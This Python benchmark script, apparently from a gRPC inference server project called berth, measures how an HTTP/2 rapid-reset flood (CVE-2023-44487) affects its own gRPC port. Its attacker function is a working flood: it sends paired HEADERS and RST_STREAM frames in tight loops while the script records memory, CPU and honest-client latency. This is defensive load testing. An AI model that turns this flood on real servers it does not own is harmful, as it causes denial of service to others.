#!/usr/bin/python3
"""Measures what an HTTP/2 rapid-reset client (CVE-2023-44487) costs a berth gRPC port.

Opens CONNECTIONS raw HTTP/2 connections (python3-h2) to the port and, on each, sends gRPC
`ServerLive` requests (HEADERS) each followed at once by RST_STREAM(CANCEL), as fast as the
socket takes them, for SECONDS. Meanwhile a real gRPC client (grpcio) calls `ServerLive` once
every 50 ms. Prints the streams opened and reset per second, the target's RSS before, at its
peak and 10 s after the attack (from /proc/PID/status), its CPU seconds (/proc/PID/stat), and
the honest client's latency and failures. It asserts nothing: it is a measurement.

    bench/grpc_rapid_reset.py --berth build/release/berth [--seconds 30] [--connections 4]
    bench/grpc_rapid_reset.py --port 8001 --pid 1234      # a process that is already running

With --berth it starts `berth worker --model-repository tests/fixtures/models` on free ports.
"""
import argparse
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.exceptions

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
LIVE = "/inference.GRPCInferenceService/ServerLive"


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def rss_mib(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024.0
    return 0.0


def cpu_seconds(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def attacker(port, stop, counts, index):
    """One connection: HEADERS + RST_STREAM pairs, 100 per write."""
    try:
        sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        headers = [(":method", "POST"), (":scheme", "http"), (":path", LIVE),
                   (":authority", "127.0.0.1:%d" % port), ("content-type", "application/grpc"),
                   ("te", "trailers")]
        sock.setblocking(False)
        while not stop.is_set():
            for _ in range(100):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers)
                conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                counts[index] += 1
            data = conn.data_to_send()
            view = memoryview(data)
            while view and not stop.is_set():
                try:
                    sent = sock.send(view)
                    view = view[sent:]
                except BlockingIOError:
                    time.sleep(0.001)
                try:  # drain what the server sends so that its writes never block on us
                    incoming = sock.recv(1 << 20)
                    if not incoming:
                        raise ConnectionError("closed by the server")
                    conn.receive_data(incoming)
                except BlockingIOError:
                    pass
                except h2.exceptions.ProtocolError:
                    pass
    except (OSError, ConnectionError, h2.exceptions.H2Error) as e:
        counts[index + 1000] = str(e)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--berth", help="berth binary: start a worker to measure")
    parser.add_argument("--port", type=int, help="gRPC port of a running process")
    parser.add_argument("--pid", type=int, help="its process id")
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--connections", type=int, default=4)
    args = parser.parse_args()
    proc = None
    tmp = None
    if args.berth:
        tmp = tempfile.mkdtemp(prefix="berth-rapid-reset-")
        http_port, grpc_port = free_port(), free_port()
        log = open(os.path.join(tmp, "worker.log"), "wb")
        proc = subprocess.Popen(
            [args.berth, "worker", "--model-repository",
             os.path.join(ROOT, "tests", "fixtures", "models"), "--http-port", str(http_port),
             "--grpc-port", str(grpc_port)], stdout=log, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 120
        while True:
            try:
                with urllib.request.urlopen("http://127.0.0.1:%d/v2/health/ready" % http_port,
                                            timeout=2) as r:
                    if r.status == 200:
                        break
            except OSError:
                pass
            if time.monotonic() > deadline or proc.poll() is not None:
                sys.exit("the worker did not become ready; see %s/worker.log" % tmp)
            time.sleep(0.2)
        port, pid = grpc_port, proc.pid
    elif args.port and args.pid:
        port, pid = args.port, args.pid
    else:
        sys.exit("give --berth, or --port and --pid")

    channel = grpc.insecure_channel("127.0.0.1:%d" % port)
    live = channel.unary_unary(LIVE, request_serializer=None, response_deserializer=None)
    live(b"", timeout=10)  # warm-up
    rss_before, cpu_before = rss_mib(pid), cpu_seconds(pid)

    stop = threading.Event()
    counts = {}
    for i in range(args.connections):
        counts[i] = 0
    threads = [threading.Thread(target=attacker, args=(port, stop, counts, i), daemon=True)
               for i in range(args.connections)]
    for t in threads:
        t.start()
    latencies, failures, peak = [], 0, rss_before
    start = time.monotonic()
    while time.monotonic() - start < args.seconds:
        t0 = time.monotonic()
        try:
            live(b"", timeout=5)
            latencies.append(time.monotonic() - t0)
        except grpc.RpcError:
            failures += 1
        peak = max(peak, rss_mib(pid))
        time.sleep(0.05)
    stop.set()
    for t in threads:
        t.join(timeout=10)
    elapsed = time.monotonic() - start
    cpu_attack = cpu_seconds(pid) - cpu_before
    time.sleep(10)
    alive = proc.poll() is None if proc else os.path.exists("/proc/%d" % pid)
    rss_after = rss_mib(pid) if alive else 0.0
    streams = sum(v for k, v in counts.items() if isinstance(k, int) and k < 1000)
    errors = [v for k, v in counts.items() if isinstance(k, int) and k >= 1000]
    latencies.sort()

    def pct(p):
        return latencies[min(len(latencies) - 1, int(p * len(latencies)))] * 1000 \
            if latencies else float("nan")
    print("rapid reset on gRPC port %d, %d connection(s), %.1f s" % (port, args.connections,
                                                                     elapsed))
    print("  streams opened and reset: %d (%.0f/s)" % (streams, streams / elapsed))
    print("  attacker connections ended early: %d%s" % (
        len(errors), (" (%s)" % errors[0]) if errors else ""))
    print("  target alive: %s" % alive)
    print("  RSS: before %.1f MiB, peak %.1f MiB, 10 s after %.1f MiB" % (
        rss_before, peak, rss_after))
    print("  target CPU during the attack: %.1f s (%.0f%% of one core)" % (
        cpu_attack, 100 * cpu_attack / elapsed))
    print("  honest ServerLive calls: %d ok, %d failed; latency p50 %.1f ms, p99 %.1f ms, "
          "max %.1f ms" % (len(latencies), failures, pct(0.5), pct(0.99),
                           latencies[-1] * 1000 if latencies else float("nan")))
    if proc:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
        shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    main()
